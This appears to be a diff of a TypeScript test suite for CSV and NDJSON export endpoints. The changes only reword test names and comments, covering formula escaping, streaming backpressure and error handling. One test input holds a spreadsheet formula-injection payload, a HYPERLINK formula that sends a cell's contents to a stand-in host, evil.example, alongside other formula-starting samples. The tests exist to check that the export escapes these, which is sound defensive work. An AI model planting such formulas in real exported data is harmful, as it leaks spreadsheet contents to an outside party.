@@ -46,7 +46,7 @@ async function fillEvents(rows: number): Promise<void> {
   }
 }
 
-/** Every text in a turn of its own. */
+/** Stores each text in its own turn. */
 async function fillTurns(texts: readonly string[]): Promise<void> {
   const { conversations } = harness.service.store.in(harness.workspace.id);
   for (const [at, text] of texts.entries()) {
@@ -59,8 +59,8 @@ async function fillTurns(texts: readonly string[]): Promise<void> {
   }
 }
 
-describe('a CSV', () => {
-  it('round-trips quotes, commas, line ends and every script', async () => {
+describe('CSV exports', () => {
+  it('round-trip quotes, commas, line breaks and every script', async () => {
     const texts = [
       'a "quoted" word',
       'one, two; three',
@@ -79,7 +79,7 @@ describe('a CSV', () => {
     expect(rows.map(({ answer }) => answer)).toEqual(texts);
   });
 
-  it('keeps what has several lines in its cell, so that no line of it begins a row', async () => {
+  it('quote text of several lines, so that no line starts a row', async () => {
     const asked = 'How do I pay?\n=HYPERLINK("http://evil.example/?"&A1)\r@SUM(1)\u2028+1';
     await fillTurns([asked, 'a\n=1+2', 'b\r=1+3', 'c\u2028=1+4']);
     const { events } = harness.service.store.in(harness.workspace.id);
@@ -98,7 +98,7 @@ describe('a CSV', () => {
     }
   });
 
-  it('has no cell that a spreadsheet would run', async () => {
+  it('escape every cell that a spreadsheet would run as a formula', async () => {
     const formulas = [
       '=1+1',
       '+1',
@@ -126,14 +126,14 @@ describe('a CSV', () => {
     expect(rows.map(({ answer }) => answer)).toEqual(formulas.map((text) => `'${text}`));
   });
 
-  it('has its header even where there are no rows', async () => {
+  it('contain the header when there are no rows', async () => {
     expect(await (await get('/events.csv')).text()).toBe('id,at,type,visitor_id,conversation_id,data\r\n');
     expect(await (await get('/events.ndjson')).text()).toBe('');
   });
 });
 
 describe('a stream of many rows', () => {
-  /** A client that reads no more than the system does for it. */
+  /** A client that stops reading after the first bytes. */
   async function stalled(path: string): Promise<Socket> {
     const socket = connect(Number(new URL(harness.baseUrl).port), '127.0.0.1');
     socket.write(`GET /api/export${path} HTTP/1.1\r\nhost: localhost\r\nx-api-key: ${key}\r\n\r\n`);
@@ -141,7 +141,7 @@ describe('a stream of many rows', () => {
     return socket;
   }
 
-  /** How many steps the storage was asked for from now on. */
+  /** Counts the storage queries from now on. */
   function countSteps(): () => number {
     const { events } = harness.service.store.in(harness.workspace.id);
     const original = events.queryLines;
@@ -155,7 +155,7 @@ describe('a stream of many rows', () => {
     return () => steps;
   }
 
-  it('comes whole, in order, and does not hold up anybody else', async () => {
+  it('is complete and ordered, and does not block other requests', async () => {
     await fillEvents(20_000);
     const [lines, boot] = await Promise.all([
       get('/events.ndjson').then((answer) => answer.text()),
@@ -169,11 +169,11 @@ describe('a stream of many rows', () => {
     expect(new Set(ids).size).toBe(20_000);
   });
 
-  it('is read no further when its client stops reading, and not at all any more when it hangs up', async () => {
+  it('pauses when the client stops reading and ends when the client disconnects', async () => {
     await fillEvents(ROWS);
     const steps = countSteps();
     const socket = await stalled('/events.ndjson');
-    // The system takes some of it on behalf of the client.
+    // The operating system buffers some of it.
     let read = -1;
     while (read !== steps()) {
       read = steps();
@@ -184,13 +184,13 @@ describe('a stream of many rows', () => {
     socket.destroy();
     await pause(200);
     expect(steps()).toBe(read);
-    // Nothing holds the database: all of its log can be written back.
+    // An open read transaction would keep the log from being written back.
     const database = new Database(harness.config.database.file);
     expect(database.pragma('wal_checkpoint(TRUNCATE)')).toMatchObject([{ busy: 0 }]);
     database.close();
   });
 
-  it('is refused, not cut off, when nothing of it can be read', async () => {
+  it('returns 500 when the first row cannot be read', async () => {
     const database = new Database(harness.config.database.file);
     database.exec('DROP TABLE turn_positions');
     database.close();
@@ -201,7 +201,7 @@ describe('a stream of many rows', () => {
     }
   });
 
-  it('is cut off, without an end, when it cannot be read to its end', async () => {
+  it('breaks the connection when a later row cannot be read', async () => {
     await fillEvents(ROWS);
     const answer = await get('/events.ndjson');
     const reader = answer.body!.getReader();
